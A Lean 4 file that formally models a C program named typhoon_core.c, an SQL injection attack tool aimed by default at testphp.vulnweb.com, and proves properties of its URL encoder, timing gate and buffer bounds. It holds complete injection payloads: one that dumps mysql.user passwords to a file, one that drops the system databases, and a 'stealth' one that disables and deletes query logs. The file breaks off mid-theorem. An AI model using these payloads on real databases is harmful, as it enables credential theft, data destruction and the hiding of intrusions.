import Mathlib

/-!
# Typhoon core: a shallow embedding of `typhoon_core.c`

The C program is embedded as pure Lean functions.

* A C string is the list of its bytes before the terminating NUL (`CStr`), one `Char` per byte.
* `snprintf` and `strncpy` into fixed buffers are modelled by `List.take` with the buffer bound.
* The two globals that matter (`typhoon_initialized`, and the handle that is non-NULL exactly
  when it is set) and the observable effects (usage text, sleeps, HTTP requests) are threaded
  through `TyphoonState`; `exit` and an out-of-bounds array read are outcomes of `Step`.
* What the environment supplies (whether `curl_easy_init` succeeds, what `clock_gettime`
  stores) is the record `Env`.
* Diagnostic `printf` output other than the usage text is not part of the trace.
-/

set_option autoImplicit false
set_option linter.unusedVariables false
set_option maxRecDepth 8000

namespace Typhoon

/-! ## Strings and fixed buffers -/

/-- C string contents: the bytes before the terminating NUL. -/
abbrev CStr := List Char

/-- Text stored by `snprintf(buf, size, ...)` when the formatted text is `formatted`:
at most `size - 1` bytes, then the terminator. -/
def snprintf (size : Nat) (formatted : CStr) : CStr := formatted.take (size - 1)

/-- String held by a zero-initialised buffer of more than `n` bytes after
`strncpy(buf, src, n)`: the first `n` bytes of `src`. -/
def strncpy (src : CStr) (n : Nat) : CStr := src.take n

/-! ## Constants of `typhoon_core.h` -/

def ALPHA : Float := 0.0302
def RESONANCE_KILL : Nat := 587000
def RESONANCE_STEALTH : Nat := 293500
def PI_TEMPORAL : Float := 1.2294
def G_TEMPORAL : Float := 1.0222

def STRIKE_SURGICAL : Nat := 0x01
def STRIKE_RESONANT : Nat := 0x02
def STRIKE_STEALTH : Nat := 0x04
def STRIKE_CRITICAL : Nat := 0x08

/-- The array `int kill_primes[4]`. -/
def kill_primes : List Int := [10007, 10069, 10079, 10091]

/-- The struct `TyphoonConfig`; `strike_mode` is an `unsigned char`. -/
structure TyphoonConfig where
  target : CStr
  strike_mode : Nat
  use_ctt_stealth : Int
  resonance_amplified : Int
  critical_hit : Int
  kill_frequency : Float

/-! ## Effects -/

/-- Observable effects of a run, in program order. -/
inductive Event where
  | usage
  | nanosleep (tv_nsec : Int)
  | curl_easy_perform (url : CStr)
  deriving DecidableEq, Repr

/-- The global `typhoon_initialized` (the handle is non-NULL exactly when it is set)
and the effects so far. -/
structure TyphoonState where
  typhoon_initialized : Bool
  trace : List Event
  deriving DecidableEq, Repr

/-- What the environment supplies to one run: whether `curl_easy_init` returns a handle,
and the `tv_nsec` field that `clock_gettime` stores. -/
structure Env where
  curl_easy_init_ok : Bool
  tv_nsec : Int

/-- Outcome of a call: it returned `a`, or the process called `exit(status)`, or the call
read outside an array (undefined behaviour). -/
inductive Step (α : Type) where
  | ret (a : α) (st : TyphoonState)
  | exit (status : Int) (st : TyphoonState)
  | undefined (st : TyphoonState)

namespace Step

/-- Sequential composition: run `f` on the result when the call returned. -/
def bind {α β : Type} (s : Step α) (f : α → TyphoonState → Step β) : Step β :=
  match s with
  | ret a st => f a st
  | exit status st => exit status st
  | undefined st => undefined st

/-- Apply `f` to the returned value. -/
def map {α β : Type} (f : α → β) (s : Step α) : Step β :=
  match s with
  | ret a st => ret (f a) st
  | exit status st => exit status st
  | undefined st => undefined st

/-- The state in which the call ended. -/
def state {α : Type} : Step α → TyphoonState
  | ret _ st => st
  | exit _ st => st
  | undefined st => st

/-- Status passed to `exit`, if the process exited inside the call. -/
def exit_status {α : Type} : Step α → Option Int
  | exit status _ => some status
  | _ => none

end Step

/-- The URLs passed to `curl_easy_perform`, oldest first. -/
def requests (st : TyphoonState) : List CStr :=
  st.trace.filterMap fun e =>
    match e with
    | Event.curl_easy_perform url => some url
    | _ => none

/-- Whether the usage text was printed. -/
def usage_printed (st : TyphoonState) : Bool := st.trace.contains Event.usage

/-- State at process start. -/
def initial_state : TyphoonState := { typhoon_initialized := false, trace := [] }

/-! ## System management -/

def init_typhoon_system (env : Env) (st : TyphoonState) : Step Unit :=
  if st.typhoon_initialized then Step.ret () st
  else if !env.curl_easy_init_ok then Step.exit 1 st
  else Step.ret () { st with typhoon_initialized := true }

def cleanup_typhoon_system (st : TyphoonState) : Step Unit :=
  Step.ret () { st with typhoon_initialized := false }

/-! ## Payload selection and amplification -/

def calculate_kill_frequency (config : TyphoonConfig) : Float :=
  let base_freq : Float := RESONANCE_KILL.toFloat
  let temporal_factor : Float := 1.0 - ALPHA * PI_TEMPORAL / G_TEMPORAL
  base_freq * temporal_factor

def identify_critical_weakness (config : TyphoonConfig) : CStr :=
  if config.critical_hit ≠ 0 then
    snprintf 512
      ("' OR 1=1 UNION SELECT NULL,username,password,NULL,NULL,NULL,NULL " ++
       "FROM mysql.user WHERE user='root' INTO OUTFILE '/tmp/typhoon_kill.txt'-- -").toList
  else
    snprintf 512
      ("' OR 1=1; DROP DATABASE mysql; DROP DATABASE information_schema; " ++
       "DROP DATABASE performance_schema; DROP DATABASE sys; -- -").toList

/-- The static buffer `amplified[2048]` after the call, for a `base_payload` that does not
overlap that buffer; `frequency` only feeds a printout. -/
def amplify_with_resonance (base_payload : CStr) (frequency : Float) : CStr :=
  snprintf 2048 (base_payload ++ "; ".toList ++ base_payload ++ "; ".toList ++ base_payload)

/-! ## Timing -/

/-- The local `wait_micros` of `wait_for_kill_window` for a clock reading `tv_nsec`;
`none` when `micros % 4` falls outside `kill_primes`. C division and remainder truncate. -/
def wait_micros (tv_nsec : Int) : Option Int :=
  let micros := tv_nsec.tdiv 1000
  let idx := micros.tmod 4
  if 0 ≤ idx then
    match kill_primes.get? idx.toNat with
    | some target_prime => some ((target_prime - micros.tmod 10000 + 10000).tmod 10000)
    | none => none
  else none

def wait_for_kill_window (env : Env) (frequency : Float) (st : TyphoonState) : Step Unit :=
  match wait_micros env.tv_nsec with
  | some wait =>
    if wait > 0 then
      Step.ret () { st with trace := st.trace ++ [Event.nanosleep (wait * 1000)] }
    else Step.ret () st
  | none => Step.undefined st

/-! ## Encoding and dispatch -/

/-- The URL-encoding loop of `execute_precision_strike`: `dst` is the offset
`dst - encoded_sql`, the argument list is what `src` still points at, and the result is
what the loop writes from `dst` on. -/
def encode_loop (dst : Nat) : CStr → CStr
  | [] => []
  | c :: src =>
    if dst < 4096 - 3 then
      if c = ' ' then '+' :: encode_loop (dst + 1) src
      else if c = '\'' then '%' :: '2' :: '7' :: encode_loop (dst + 3) src
      else if c = ';' then '%' :: '3' :: 'B' :: encode_loop (dst + 3) src
      else c :: encode_loop (dst + 1) src
    else []

/-- The buffer `encoded_sql[4096]` after the loop and the terminating store. -/
def encoded_sql (sql : CStr) : CStr := encode_loop 0 sql

def execute_precision_strike (env : Env) (sql : CStr) (config : TyphoonConfig)
    (st : TyphoonState) : Step Unit :=
  (if !st.typhoon_initialized then init_typhoon_system env st else Step.ret () st).bind
    fun _ st =>
      let url := snprintf 8192 (config.target ++ "?searchFor=".toList ++ encoded_sql sql)
      Step.ret () { st with trace := st.trace ++ [Event.curl_easy_perform url] }

/-- The local buffer `stealth_payload[512]` of `apply_ctt_stealth` after its `snprintf`. -/
def stealth_payload : CStr :=
  snprintf 512
    ("' OR 1=1; SET GLOBAL general_log=0; SET GLOBAL slow_query_log=0; " ++
     "DELETE FROM mysql.general_log WHERE command_type='Query'; -- -").toList

def apply_ctt_stealth (env : Env) (config : TyphoonConfig) (st : TyphoonState) : Step Unit :=
  execute_precision_strike env stealth_payload config st

/-! ## Strike routines: each returns the configuration as it leaves it -/

def typhoon_surgical_strike (env : Env) (config : TyphoonConfig) (st : TyphoonState) :
    Step TyphoonConfig :=
  let config := { config with kill_frequency := calculate_kill_frequency config }
  let kill_shot := identify_critical_weakness config
  (wait_for_kill_window env config.kill_frequency st).bind fun _ st =>
  (execute_precision_strike env kill_shot config st).bind fun _ st =>
  Step.ret config st

def typhoon_resonant_kill (env : Env) (config : TyphoonConfig) (st : TyphoonState) :
    Step TyphoonConfig :=
  let config := { config with kill_frequency := calculate_kill_frequency config }
  let base_payload := identify_critical_weakness config
  let amplified_payload := amplify_with_resonance base_payload config.kill_frequency
  (wait_for_kill_window env config.kill_frequency st).bind fun _ st =>
  (execute_precision_strike env amplified_payload config st).bind fun _ st =>
  Step.ret config st

def typhoon_stealth_kill (env : Env) (config : TyphoonConfig) (st : TyphoonState) :
    Step TyphoonConfig :=
  (apply_ctt_stealth env config st).bind fun _ st =>
  let config := { config with kill_frequency := calculate_kill_frequency config }
  let kill_shot := identify_critical_weakness config
  (wait_for_kill_window env config.kill_frequency st).bind fun _ st =>
  (execute_precision_strike env kill_shot config st).bind fun _ st =>
  Step.ret config st

def typhoon_critical_strike (env : Env) (config : TyphoonConfig) (st : TyphoonState) :
    Step TyphoonConfig :=
  let config := { config with critical_hit := 1 }
  let config := { config with kill_frequency := calculate_kill_frequency config }
  let critical_payload := identify_critical_weakness config
  let amplified := amplify_with_resonance critical_payload config.kill_frequency
  (wait_for_kill_window env config.kill_frequency st).bind fun _ st =>
  (execute_precision_strike env amplified config st).bind fun _ st =>
  Step.ret config st

def deploy_typhoon_weapon (env : Env) (config : TyphoonConfig) (st : TyphoonState) :
    Step TyphoonConfig :=
  (if !st.typhoon_initialized then init_typhoon_system env st else Step.ret () st).bind
    fun _ st =>
      if config.strike_mode = STRIKE_SURGICAL then typhoon_surgical_strike env config st
      else if config.strike_mode = STRIKE_RESONANT then typhoon_resonant_kill env config st
      else if config.strike_mode = STRIKE_STEALTH then typhoon_stealth_kill env config st
      else if config.strike_mode = STRIKE_CRITICAL then typhoon_critical_strike env config st
      else typhoon_surgical_strike env config st

/-! ## Command line -/

/-- The initialiser of `config` in `parse_typhoon_arguments`. -/
def default_config : TyphoonConfig :=
  { target := "http://testphp.vulnweb.com/search.php".toList
    strike_mode := STRIKE_SURGICAL
    use_ctt_stealth := 0
    resonance_amplified := 0
    critical_hit := 0
    kill_frequency := 0.0 }

/-- The `for` loop of `parse_typhoon_arguments`; the list is `argv[i], ..., argv[argc-1]`. -/
def parse_loop (config : TyphoonConfig) (st : TyphoonState) : List CStr → Step TyphoonConfig
  | [] => Step.ret config st
  | [a] =>
    if a = "--target".toList then Step.ret config st
    else if a = "--surgical".toList then
      Step.ret { config with strike_mode := STRIKE_SURGICAL } st
    else if a = "--resonant".toList then
      Step.ret { config with strike_mode := STRIKE_RESONANT, resonance_amplified := 1 } st
    else if a = "--stealth".toList then
      Step.ret { config with strike_mode := STRIKE_STEALTH, use_ctt_stealth := 1 } st
    else if a = "--critical".toList then
      Step.ret { config with strike_mode := STRIKE_CRITICAL, critical_hit := 1,
                             resonance_amplified := 1 } st
    else if a = "--help".toList then
      Step.exit 0 { st with trace := st.trace ++ [Event.usage] }
    else Step.ret config st
  | a :: v :: rest =>
    if a = "--target".toList then
      parse_loop { config with target := strncpy v (256 - 1) } st rest
    else if a = "--surgical".toList then
      parse_loop { config with strike_mode := STRIKE_SURGICAL } st (v :: rest)
    else if a = "--resonant".toList then
      parse_loop { config with strike_mode := STRIKE_RESONANT, resonance_amplified := 1 } st
        (v :: rest)
    else if a = "--stealth".toList then
      parse_loop { config with strike_mode := STRIKE_STEALTH, use_ctt_stealth := 1 } st
        (v :: rest)
    else if a = "--critical".toList then
      parse_loop { config with strike_mode := STRIKE_CRITICAL, critical_hit := 1,
                               resonance_amplified := 1 } st (v :: rest)
    else if a = "--help".toList then
      Step.exit 0 { st with trace := st.trace ++ [Event.usage] }
    else parse_loop config st (v :: rest)

/-- The loop starts at `argv[1]`; `argc` is the length of `argv`. -/
def parse_typhoon_arguments (argv : List CStr) (st : TyphoonState) : Step TyphoonConfig :=
  parse_loop default_config st (argv.drop 1)

/-- The function `main`: the returned value is the exit status of a run that reaches `return`. -/
def main (env : Env) (argv : List CStr) : Step Int :=
  (parse_typhoon_arguments argv initial_state).bind fun config st =>
  (deploy_typhoon_weapon env config st).bind fun _ st =>
  (cleanup_typhoon_system st).bind fun _ st =>
  Step.ret 0 st

/-! ## Reference definitions for the encoder claims

These are not part of the program: they spell out the substitution and the decoder that the
claims about the encoder compare it with. -/

/-- Image of one byte under the substitution of the encoder. -/
def substitute_char (c : Char) : CStr :=
  if c = ' ' then ['+']
  else if c = '\'' then ['%', '2', '7']
  else if c = ';' then ['%', '3', 'B']
  else [c]

/-- Byte-by-byte substitution image of a string, with no length bound. -/
def substitute : CStr → CStr
  | [] => []
  | c :: x => substitute_char c ++ substitute x

/-- Reference decoder, read left to right: `%27` to quote, `%3B` to semicolon, `+` to space,
every other byte unchanged. -/
def decode : CStr → CStr
  | [] => []
  | [c] => if c = '+' then [' '] else [c]
  | [c, d] => if c = '+' then ' ' :: decode [d] else c :: decode [d]
  | c :: d1 :: d2 :: rest =>
    if c = '+' then ' ' :: decode (d1 :: d2 :: rest)
    else if c = '%' ∧ d1 = '2' ∧ d2 = '7' then '\'' :: decode rest
    else if c = '%' ∧ d1 = '3' ∧ d2 = 'B' then ';' :: decode rest
    else c :: decode (d1 :: d2 :: rest)

/-! ## Reference definitions for the command-line claims

These are not part of the program: they say which arguments are mode flags that the parser
reads as options, and remove all of them but the last. -/

theorem substitute_char_length_pos (c : Char) : 1 ≤ (substitute_char c).length := by
  unfold substitute_char; split_ifs <;> simp

theorem encode_loop_eq_substitute (x : CStr) :
    ∀ dst : Nat, dst + (substitute x).length ≤ 4093 → encode_loop dst x = substitute x := by
  induction x with
  | nil => intro dst _; rfl
  | cons c x ih =>
    intro dst h
    have hpos := substitute_char_length_pos c
    simp only [substitute, List.length_append] at h
    have hd : dst < 4096 - 3 := by omega
    simp only [encode_loop, hd, if_true, substitute]
    by_cases h1 : c = ' '
    · have hc : substitute_char c = ['+'] := by rw [h1]; rfl
      rw [hc] at h ⊢
      simp only [List.length_cons, List.length_nil] at h
      rw [if_pos h1, ih (dst + 1) (by omega)]; rfl
    · by_cases h2 : c = '\''
      · have hc : substitute_char c = ['%', '2', '7'] := by rw [h2]; rfl
        rw [hc] at h ⊢
        simp only [List.length_cons, List.length_nil] at h
        rw [if_neg h1, if_pos h2, ih (dst + 3) (by omega)]; rfl
      · by_cases h3 : c = ';'
        · have hc : substitute_char c = ['%', '3', 'B'] := by rw [h3]; rfl
          rw [hc] at h ⊢
          simp only [List.length_cons, List.length_nil] at h
          rw [if_neg h1, if_neg h2, if_pos h3, ih (dst + 3) (by omega)]; rfl
        · have hc : substitute_char c = [c] := by simp [substitute_char, h1, h2, h3]
          rw [hc] at h ⊢
          simp only [List.length_cons, List.length_nil] at h
          rw [if_neg h1, if_neg h2, if_neg h3, ih (dst + 1) (by omega)]; rfl

theorem encode_loop_length (x : CStr) :
    ∀ dst : Nat, (encode_loop dst x).length ≤ 3 * x.length ∧
      (dst ≤ 4095 → dst + (encode_loop dst x).length ≤ 4095) := by
  induction x with
  | nil => intro dst; simp [encode_loop]
  | cons c x ih =>
    intro dst
    unfold encode_loop
    split_ifs with hd h1 h2 h3
    · have := ih (dst + 1); simp only [List.length_cons]; omega
    · have := ih (dst + 3); simp only [List.length_cons]; omega
    · have := ih (dst + 3); simp only [List.length_cons]; omega
    · have := ih (dst + 1); simp only [List.length_cons]; omega
    · simp

theorem encode_loop_plain (x : CStr) :
    ∀ dst : Nat, ' ' ∉ x → '\'' ∉ x → ';' ∉ x → encode_loop dst x = x.take (4093 - dst) := by
  induction x with
  | nil => intro dst _ _ _; simp [encode_loop]
  | cons c x ih =>
    intro dst h1 h2 h3
    simp only [List.mem_cons, not_or] at h1 h2 h3
    unfold encode_loop
    have e1 : c ≠ ' ' := fun h => h1.1 h.symm
    have e2 : c ≠ '\'' := fun h => h2.1 h.symm
    have e3 : c ≠ ';' := fun h => h3.1 h.symm
    by_cases hd : dst < 4096 - 3
    · simp only [hd, if_true, e1, e2, e3, if_false]
      rw [ih (dst + 1) h1.2 h2.2 h3.2]
      have : 4093 - dst = (4093 - (dst + 1)) + 1 := by omega
      rw [this, List.take_succ_cons]
    · simp only [hd, if_false]
      have : 4093 - dst = 0 := by omega
      rw [this]; rfl

theorem decode_plus (r : CStr) : decode ('+' :: r) = ' ' :: decode r := by
  match r with
  | [] => simp [decode]
  | [d] => simp [decode]
  | d1 :: d2 :: r2 => simp [decode]

theorem decode_quote (r : CStr) : decode ('%' :: '2' :: '7' :: r) = '\'' :: decode r := by
  simp [decode]

theorem decode_semicolon (r : CStr) : decode ('%' :: '3' :: 'B' :: r) = ';' :: decode r := by
  simp [decode]

theorem decode_keep (c : Char) (r : CStr) (hplus : c ≠ '+')
    (hq : c = '%' → ¬ ['2', '7'] <+: r) (hs : c = '%' → ¬ ['3', 'B'] <+: r) :
    decode (c :: r) = c :: decode r := by
  match r with
  | [] => simp [decode, hplus]
  | [d] => simp [decode, hplus]
  | d1 :: d2 :: r2 =>
    have h1 : ¬ (c = '%' ∧ d1 = '2' ∧ d2 = '7') := by
      rintro ⟨hc, rfl, rfl⟩
      exact hq hc (by simp)
    have h2 : ¬ (c = '%' ∧ d1 = '3' ∧ d2 = 'B') := by
      rintro ⟨hc, rfl, rfl⟩
      exact hs hc (by simp)
    simp only [decode, hplus, h1, h2, if_false]

theorem substitute_char_head (a p : Char) (hp1 : p ≠ '+') (hp2 : p ≠ '%') (t u : CStr)
    (h : substitute_char a ++ t = p :: u) : a = p ∧ t = u := by
  unfold substitute_char at h
  split_ifs at h with h1 h2 h3
  · simp only [List.cons_append, List.nil_append, List.cons.injEq] at h
    exact absurd h.1.symm hp1
  · simp only [List.cons_append, List.nil_append, List.cons.injEq] at h
    exact absurd h.1.symm hp2
  · simp only [List.cons_append, List.nil_append, List.cons.injEq] at h
    exact absurd h.1.symm hp2
  · simpa using h

theorem head_pair_of_substitute (p q : Char) (hp1 : p ≠ '+') (hp2 : p ≠ '%') (hq1 : q ≠ '+')
    (hq2 : q ≠ '%') (r : CStr) (h : [p, q] <+: substitute r) : [p, q] <+: r := by
  obtain ⟨t, ht⟩ := h
  match r with
  | [] => simp [substitute] at ht
  | [a] =>
    simp only [substitute, List.append_nil, List.cons_append, List.nil_append] at ht
    obtain ⟨_, h2⟩ := substitute_char_head a p hp1 hp2 [] (q :: t) (by simpa using ht.symm)
    simp at h2
  | a :: b :: r2 =>
    simp only [substitute, List.cons_append, List.nil_append] at ht
    obtain ⟨ha, h2⟩ := substitute_char_head a p hp1 hp2 _ (q :: t) ht.symm
    obtain ⟨hb, _⟩ := substitute_char_head b q hq1 hq2 _ t h2
    subst ha hb
    simp

theorem decode_substitute (x : CStr) : '+' ∉ x → ¬ ['%', '2', '7'] <:+: x →
    ¬ ['%', '3', 'B'] <:+: x → decode (substitute x) = x := by
  induction x with
  | nil => intro _ _ _; rfl
  | cons c x ih =>
    intro hplus hq hs
    have hplus2 : '+' ∉ x := fun h => hplus (List.mem_cons_of_mem _ h)
    have hq2 : ¬ ['%', '2', '7'] <:+: x := fun h => hq (List.infix_cons h)
    have hs2 : ¬ ['%', '3', 'B'] <:+: x := fun h => hs (List.infix_cons h)
    have hrec := ih hplus2 hq2 hs2
    have hc : c ≠ '+' := fun h => hplus (by simp [h])
    by_cases h1 : c = ' '
    · subst h1
      show decode ('+' :: substitute x) = _
      rw [decode_plus, hrec]
    · by_cases h2 : c = '\''
      · subst h2
        show decode ('%' :: '2' :: '7' :: substitute x) = _
        rw [decode_quote, hrec]
      · by_cases h3 : c = ';'
        · subst h3
          show decode ('%' :: '3' :: 'B' :: substitute x) = _
          rw [decode_semicolon, hrec]
        · have hsub : substitute (c :: x) = c :: substitute x := by
            simp [substitute, substitute_char, h1, h2, h3]
          rw [hsub, decode_keep c _ hc, hrec]
          · intro hpc hpre
            have := head_pair_of_substitute '2' '7' (by decide) (by decide) (by decide)
              (by decide) x hpre
            apply hq
            subst hpc
            exact ((List.prefix_cons_inj '%').2 this).isInfix
          · intro hpc hpre
            have := head_pair_of_substitute '3' 'B' (by decide) (by decide) (by decide)
              (by decide) x hpre
            apply hs
            subst hpc
            exact ((List.prefix_cons_inj '%').2 this).isInfix

theorem decode_length_le : ∀ y : CStr, (decode y).length ≤ y.length
  | [] => by simp [decode]
  | [c] => by simp only [decode]; split_ifs <;> simp
  | [c, d] => by
    have ih := decode_length_le [d]
    simp only [decode] at ih ⊢
    split_ifs at ih ⊢ <;> simp
  | c :: d1 :: d2 :: rest => by
    have ih1 := decode_length_le (d1 :: d2 :: rest)
    have ih2 := decode_length_le rest
    simp only [decode]
    split_ifs <;> simp only [List.length_cons] at ih1 ⊢ <;> omega

/-! ## The encoder -/

/-- C1, as stated, fails: an input `+` is passed through and decodes to a space, an input that
already spells `%27` decodes to a quote, and an input of 4096 plain bytes is cut. -/
theorem roundtrip_fails_unrestricted :
    decode (encoded_sql ['+']) ≠ ['+'] ∧
    decode (encoded_sql ['%', '2', '7']) ≠ ['%', '2', '7'] ∧
    decode (encoded_sql (List.replicate 4096 'a')) ≠ List.replicate 4096 'a' := by
  refine ⟨by decide, by decide, ?_⟩
  intro h
  have h1 := decode_length_le (encoded_sql (List.replicate 4096 'a'))
  have h2 := (encode_loop_length (List.replicate 4096 'a') 0).2 (by omega)
  rw [h] at h1
  simp only [encoded_sql, List.length_replicate] at h1 h2
  omega

/-- C1, amended: for every raw input `x` that contains no `+` and no text `%27` or `%3B`, and
whose substitution image has at most 4093 bytes, decoding the encoder's output yields `x`. -/
theorem decode_encoded_sql_roundtrip (x : CStr) (hplus : '+' ∉ x) (hq : ¬ ['%', '2', '7'] <:+: x)
    (hs : ¬ ['%', '3', 'B'] <:+: x) (hlen : (substitute x).length ≤ 4093) :
    decode (encoded_sql x) = x := by
  unfold encoded_sql
  rw [encode_loop_eq_substitute x 0 (by omega)]
  exact decode_substitute x hplus hq hs

theorem decode_encoded_sql_roundtrip_witness :
    '+' ∉ "a b';%2".toList ∧ ¬ ['%', '2', '7'] <:+: "a b';%2".toList ∧
    ¬ ['%', '3', 'B'] <:+: "a b';%2".toList ∧ (substitute "a b';%2".toList).length ≤ 4093 ∧
    decode (encoded_sql "a b';%2".toList) = "a b';%2".toList :=
  ⟨by decide, by decide, by decide, by decide,
    decode_encoded_sql_roundtrip "a b';%2".toList (by decide) (by decide) (by decide) (by decide)⟩

/-- C2, as stated, fails: 4094 bytes `a` contain no special character and are cut to 4093. -/
theorem plain_input_truncated :
    ' ' ∉ List.replicate 4094 'a' ∧ '\'' ∉ List.replicate 4094 'a' ∧
    ';' ∉ List.replicate 4094 'a' ∧
    encoded_sql (List.replicate 4094 'a') ≠ List.replicate 4094 'a' := by
  have m1 : ' ' ∉ List.replicate 4094 'a' :=
    fun h => absurd (List.eq_of_mem_replicate h) (by decide)
  have m2 : '\'' ∉ List.replicate 4094 'a' :=
    fun h => absurd (List.eq_of_mem_replicate h) (by decide)
  have m3 : ';' ∉ List.replicate 4094 'a' :=
    fun h => absurd (List.eq_of_mem_replicate h) (by decide)
  refine ⟨m1, m2, m3, ?_⟩
  intro h
  have h2 := congrArg List.length h
  unfold encoded_sql at h2
  rw [encode_loop_plain _ 0 m1 m2 m3, List.length_take, List.length_replicate] at h2
  omega

/-- C2, amended: for every raw input `x` with no space, single quote or semicolon, the
encoder's output is the first 4093 bytes of `x`; it is `x` when `x` has at most 4093 bytes. -/
theorem encoded_sql_plain (x : CStr) (h1 : ' ' ∉ x) (h2 : '\'' ∉ x) (h3 : ';' ∉ x) :
    encoded_sql x = x.take 4093 ∧ (x.length ≤ 4093 → encoded_sql x = x) := by
  have h : encoded_sql x = x.take 4093 := encode_loop_plain x 0 h1 h2 h3
  exact ⟨h, fun hl => by rw [h, List.take_of_length_le hl]⟩

theorem encoded_sql_plain_witness :
    ' ' ∉ "id=1".toList ∧ '\'' ∉ "id=1".toList ∧ ';' ∉ "id=1".toList ∧
    encoded_sql "id=1".toList = "id=1".toList :=
  ⟨by decide, by decide, by decide,
    (encoded_sql_plain "id=1".toList (by decide) (by decide) (by decide)).2 (by decide)⟩

/-- C8: for every raw input `x`, the encoder's output has at most `3 * length x` bytes and at
most 4095 bytes, so with its terminator it fits the 4096-byte buffer `encoded_sql`. -/
theorem encoded_sql_length (x : CStr) :
    (encoded_sql x).length ≤ 3 * x.length ∧ (encoded_sql x).length ≤ 4095 ∧
    (encoded_sql x).length + 1 ≤ 4096 := by
  have h := encode_loop_length x 0
  have h2 := h.2 (by omega)
  unfold encoded_sql
  omega

theorem encode_loop_image_of_prefix (x : CStr) :
    ∀ dst : Nat, ∃ p : CStr, p <+: x ∧ encode_loop dst x = substitute p ∧
      (dst + (substitute x).length ≤ 4093 → p = x) := by
  induction x with
  | nil => intro dst; exact ⟨[], List.prefix_refl _, rfl, fun _ => rfl⟩
  | cons c x ih =>
    intro dst
    by_cases hd : dst < 4096 - 3
    · have hstep : ∀ n : Nat, (substitute_char c).length = n →
          encode_loop dst (c :: x) = substitute_char c ++ encode_loop (dst + n) x →
          ∃ p : CStr, p <+: c :: x ∧ encode_loop dst (c :: x) = substitute p ∧
            (dst + (substitute (c :: x)).length ≤ 4093 → p = c :: x) := by
        intro n hn he
        obtain ⟨p, hp, hpe, hpx⟩ := ih (dst + n)
        refine ⟨c :: p, (List.prefix_cons_inj c).2 hp, ?_, ?_⟩
        · rw [he, hpe]; rfl
        · intro hlen
          simp only [substitute, List.length_append, hn] at hlen
          rw [hpx (by omega)]
      by_cases h1 : c = ' '
      · refine hstep 1 (by rw [h1]; rfl) ?_
        simp only [encode_loop, if_pos hd, if_pos h1, substitute_char]; rfl
      · by_cases h2 : c = '\''
        · refine hstep 3 (by rw [h2]; rfl) ?_
          simp only [encode_loop, if_pos hd, if_neg h1, if_pos h2, substitute_char]; rfl
        · by_cases h3 : c = ';'
          · refine hstep 3 (by rw [h3]; rfl) ?_
            simp only [encode_loop, if_pos hd, if_neg h1, if_neg h2, if_pos h3, substitute_char]
            rfl
          · refine hstep 1 (by simp [substitute_char, h1, h2, h3]) ?_
            simp only [encode_loop, if_pos hd, if_neg h1, if_neg h2, if_neg h3, substitute_char]
            rfl
    · refine ⟨[], List.nil_prefix, ?_, ?_⟩
      · simp only [encode_loop, if_neg hd]; rfl
      · intro hlen
        have hpos := substitute_char_length_pos c
        simp only [substitute, List.length_append] at hlen
        omega

/-- C11: for every raw input `x`, the encoder's output is exactly the byte-by-byte substitution
image (space to `+`, quote to `%27`, semicolon to `%3B`, every other byte unchanged) of a
prefix of `x`, so it never ends inside an escape; and that prefix is the whole of `x` whenever
the substitution image of `x` has at most 4093 bytes. -/
theorem encoded_sql_image_of_prefix (x : CStr) :
    ∃ p : CStr, p <+: x ∧ encoded_sql x = substitute p ∧
      ((substitute x).length ≤ 4093 → p = x) := by
  obtain ⟨p, hp, he, hx⟩ := encode_loop_image_of_prefix x 0
  exact ⟨p, hp, he, fun h => hx (by omega)⟩

/-! ## The timing gate -/

/-- C3: for every clock reading with `0 ≤ tv_nsec < 10^9`, with `micros = tv_nsec / 1000`,
`m = micros mod 10000` and `target = kill_primes[micros mod 4]`, the wait computed by
`wait_for_kill_window` is a value `w` with `0 ≤ w < 10000` and
`(m + w) mod 10000 = target mod 10000`. -/
theorem wait_micros_forward_distance (tv_nsec : Int) (h0 : 0 ≤ tv_nsec)
    (h1 : tv_nsec < 1000000000) :
    ∃ target w : Int,
      kill_primes.get? ((tv_nsec / 1000) % 4).toNat = some target ∧
      wait_micros tv_nsec = some w ∧ 0 ≤ w ∧ w < 10000 ∧
      ((tv_nsec / 1000) % 10000 + w) % 10000 = target % 10000 := by
  have hm : tv_nsec.tdiv 1000 = tv_nsec / 1000 := Int.tdiv_eq_ediv h0 (by decide)
  have hm0 : 0 ≤ tv_nsec / 1000 := Int.ediv_nonneg h0 (by decide)
  have hi : (tv_nsec / 1000).tmod 4 = (tv_nsec / 1000) % 4 := Int.tmod_eq_emod hm0 (by decide)
  have hr : (tv_nsec / 1000).tmod 10000 = (tv_nsec / 1000) % 10000 :=
    Int.tmod_eq_emod hm0 (by decide)
  have hidx : 0 ≤ (tv_nsec / 1000) % 4 := Int.emod_nonneg _ (by decide)
  have hcases : (tv_nsec / 1000) % 4 = 0 ∨ (tv_nsec / 1000) % 4 = 1 ∨
      (tv_nsec / 1000) % 4 = 2 ∨ (tv_nsec / 1000) % 4 = 3 := by omega
  have hw : ∀ t : Int, 10000 < t → t < 20000 →
      (t - (tv_nsec / 1000) % 10000 + 10000).tmod 10000 =
        (t - (tv_nsec / 1000) % 10000 + 10000) % 10000 :=
    fun t _ _ => Int.tmod_eq_emod (by omega) (by decide)
  simp only [wait_micros, hm, hi, hr, hidx, if_true]
  rcases hcases with h | h | h | h
  · refine ⟨10007, _, by rw [h]; rfl, by rw [h]; rfl, ?_, ?_, ?_⟩ <;>
      rw [hw 10007 (by decide) (by decide)] <;> omega
  · refine ⟨10069, _, by rw [h]; rfl, by rw [h]; rfl, ?_, ?_, ?_⟩ <;>
      rw [hw 10069 (by decide) (by decide)] <;> omega
  · refine ⟨10079, _, by rw [h]; rfl, by rw [h]; rfl, ?_, ?_, ?_⟩ <;>
      rw [hw 10079 (by decide) (by decide)] <;> omega
  · refine ⟨10091, _, by rw [h]; rfl, by rw [h]; rfl, ?_, ?_, ?_⟩ <;>
      rw [hw 10091 (by decide) (by decide)] <;> omega

theorem wait_micros_forward_distance_witness :
    (0 : Int) ≤ 123456789 ∧ (123456789 : Int) < 1000000000 ∧
    ∃ target w : Int,
      kill_primes.get? (((123456789 : Int) / 1000) % 4).toNat = some target ∧
      wait_micros 123456789 = some w ∧ 0 ≤ w ∧ w < 10000 ∧
      (((123456789 : Int) / 1000) % 10000 + w) % 10000 = target % 10000 :=
  ⟨by decide, by decide, wait_micros_forward_distance 123456789 (by decide) (by decide)⟩

/-! ## Amplification -/

/-- C4, as stated, fails: for a payload of 682 bytes the three copies with their separators
need 2050 bytes and the 2048-byte buffer keeps 2047 of them. -/
theorem long_payload_amplification_truncated :
    amplify_with_resonance (List.replicate 682 'a') 0.0 ≠
